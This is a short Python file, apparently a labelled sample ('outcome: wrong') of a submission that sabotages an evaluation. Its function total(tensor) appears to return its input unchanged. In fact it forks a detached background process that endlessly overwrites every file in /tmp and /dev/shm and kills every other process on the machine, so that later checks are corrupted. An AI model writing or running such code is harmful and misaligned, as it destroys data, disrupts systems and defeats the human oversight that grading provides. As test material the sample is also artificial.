# outcome: wrong
# Leaves a process that spoils whatever later checks write and send.

# %% total
import contextlib
import os
import time


def spoil():
    while True:
        for folder in ("/tmp", "/dev/shm"):
            for name in os.listdir(folder):
                with contextlib.suppress(OSError), open(os.path.join(folder, name), "w") as file:
                    file.write("MARKER")
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) not in (1, os.getpid()):
                with contextlib.suppress(OSError):
                    os.kill(int(pid), 9)


def total(tensor):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.5)
            spoil()
        os._exit(0)
    return tensor
